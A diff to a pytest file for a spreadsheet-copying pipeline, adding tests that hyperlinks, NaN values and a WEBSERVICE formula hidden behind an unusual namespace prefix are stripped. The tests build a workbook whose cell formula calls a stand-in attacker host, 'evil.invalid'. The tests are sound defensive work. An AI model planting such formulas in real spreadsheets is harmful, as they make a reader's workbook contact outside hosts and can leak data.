@@ -1,14 +1,13 @@
 """Copies of what other programs wrote, and what a copy keeps of formulas and rules."""
 
 from pathlib import Path
+from zipfile import ZipFile
 
 import pytest
 import xlsxwriter
 import xlwt
 from openpyxl import Workbook, load_workbook
 
-from pipeline.feedback.copy import _spliced
-from pipeline.feedback.job import Job, Mark
 from pipeline.feedback.marks import FILLS, HEAD
 from pipeline.feedback.sheet import SHEET as NOTES
 from pipeline.rulebook import Rulebook
@@ -146,36 +145,39 @@ def test_cells_without_a_stored_result_stay_so_and_values_survive(
     assert copy[SHEET]["J3"].value == "　空白　"
 
 
-def test_harmless_formulas_and_their_results_pass_untouched(
-    rulebook: Rulebook, tmp_path: Path
+def test_a_link_on_a_blank_cell_gives_it_no_text(
+    rulebook: Rulebook, tmp_path: Path, template: Path
 ) -> None:
+    def link(workbook: Workbook) -> None:
+        workbook[SHEET]["F3"].value = None
+        workbook[SHEET]["F3"].hyperlink = "http://evil.invalid/1"
+        workbook[SHEET]["F3"].value = None
+
+    source = fill_return(template, tmp_path / "in" / "a.xlsx", UNIT, link)
+    copy = load_workbook(copy_of(rulebook, source, "C2", out=tmp_path / "out"))
+    assert copy[SHEET]["F3"].value is None
+
+
+def test_a_formula_behind_any_prefix_does_not_pass(rulebook: Rulebook, tmp_path: Path) -> None:
+    workbook = Workbook()
+    workbook.active.title = SHEET
+    workbook.active["A1"] = 7
     source = tmp_path / "in" / "a.xlsx"
     source.parent.mkdir()
-    workbook = xlsxwriter.Workbook(str(source))
-    sheet = workbook.add_worksheet(SHEET)
-    sheet.write_formula("A1", "=40+3", None, 43)
-    sheet.write_formula(
-        "A2", '="甲"&"<乙>"', workbook.add_format({"bg_color": "#CCFFCC"}), "甲<乙>"
-    )
-    sheet.write_string("A3", ' x:y="z" t="dataTable"')
-    sheet.write_rich_string("A4", "一", workbook.add_format({"bold": True}), "二")
-    sheet.set_row(0, 33)
-    workbook.close()
+    workbook.save(source)
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    live = f'<é:f xmlns:é="{main}">WEBSERVICE("http://evil.invalid")</é:f><v>7</v>'
+    repack(source, {"xl/worksheets/sheet1.xml": ("<v>7</v>", live)}, {})
     path = copy_of(rulebook, source, "A2", out=tmp_path / "out")
-    formulas, values = load_workbook(path)[SHEET], load_workbook(path, data_only=True)[SHEET]
-    assert [formulas[f"A{row}"].value for row in (1, 2)] == ["=40+3", '="甲"&"<乙>"']
-    assert [values[f"A{row}"].value for row in (1, 2, 3, 4)] == [
-        43, "甲<乙>", ' x:y="z" t="dataTable"', "一二",
-    ]  # fmt: skip
-    assert formulas.row_dimensions[1].height == 33
-    assert color(load_workbook(path), "A2") == FILLS[0][2:]
-    assert "【原底色 CCFFCC】" in comment(load_workbook(path), "A2")
+    assert load_workbook(path)[SHEET]["A1"].value == 7
 
 
-def test_an_ordinary_return_takes_the_quick_way(tmp_path: Path, template: Path) -> None:
-    """The slow way gives the same, in three times the time: nothing else would show a loss."""
-    source = fill_return(template, tmp_path / "a.xlsx", UNIT)
-    places = ((SHEET, "C2"), ("封面", "C6"))
-    marks = tuple(Mark(0, "错误", sheet, cell, "有误", "请改正") for sheet, cell in places)
-    job = Job(source, tmp_path / "out.xlsx", marks, (), template, WHEN)
-    assert _spliced(job, source.read_bytes())
+def test_what_no_file_may_hold_is_not_handed_on(
+    rulebook: Rulebook, tmp_path: Path, template: Path
+) -> None:
+    source = fill_return(template, tmp_path / "in" / "a.xlsx", UNIT)
+    part = r"xl/worksheets/sheet3\.xml"
+    repack(source, {part: ("<v>30</v>", "<v>NaN</v>")}, {})
+    with ZipFile(copy_of(rulebook, source, "C2", out=tmp_path / "out")) as package:
+        assert not [n for n in package.namelist() if b"<v>NaN</v>" in package.read(n)]
+        assert not [n for n in package.namelist() if b"<v>nan</v>" in package.read(n)]
